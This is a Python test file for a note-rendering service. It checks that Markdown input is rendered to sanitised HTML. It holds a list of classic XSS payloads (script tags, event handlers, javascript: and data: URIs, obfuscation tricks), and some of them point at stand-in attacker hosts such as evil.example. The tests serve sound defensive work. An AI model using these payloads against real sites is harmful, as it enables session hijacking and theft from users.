"""Note bodies: Markdown in, safe HTML out, whatever the author typed."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from app.services.markdown import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, render

# Classic payloads (from the OWASP XSS filter evasion cheat sheet and PayloadsAllTheThings),
# typed as note bodies: raw HTML, Markdown links and autolinks, entity and case tricks.
XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">click</a>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![x](http://example.org/x.png" onerror="alert(1))',
    '[x](http://example.org "title" onmouseover="alert(1)")',
    "<a href='http://ok' onclick='alert(1)'>x</a>",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</script>",
    '"><script>alert(1)</script>',
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example><button>go</button></form>",
]


class _Inspector(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def _parse(html: str) -> list[tuple[str, dict]]:
    inspector = _Inspector()
    inspector.feed(html)
    return inspector.tags


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payload_renders_to_nothing_executable(payload):
    for tag, attrs in _parse(render(payload)):
        assert tag in ALLOWED_TAGS, tag
        for name, value in attrs.items():
            assert name in ALLOWED_ATTRIBUTES.get(tag, set()) | {"rel"}, (tag, name)
            if name == "href":
                assert value.split(":", 1)[0].lower() in {"http", "https", "mailto"}, value


def test_markdown_formatting_survives():
    html = render(
        "**bold** and *it*, `code`, [Carr](https://example.org/carr)\n\n> quoted\n\n- one"
    )
    assert "<strong>bold</strong>" in html and "<em>it</em>" in html and "<code>code</code>" in html
    assert (
        '<a href="https://example.org/carr" rel="nofollow noopener noreferrer ugc">Carr</a>' in html
    )
    assert "<blockquote>" in html and "<li>one</li>" in html


def test_raw_html_is_shown_as_text_not_dropped():
    assert "&lt;b&gt;not bold&lt;/b&gt;" in render("<b>not bold</b>")


def test_big_headings_are_demoted_below_the_page_headings():
    assert render("# Big") == "<h3>Big</h3>"


def test_images_become_links_so_no_other_origin_is_fetched():
    html = render("![map](https://example.org/map.png)")
    assert "<img" not in html
    assert 'href="https://example.org/map.png"' in html
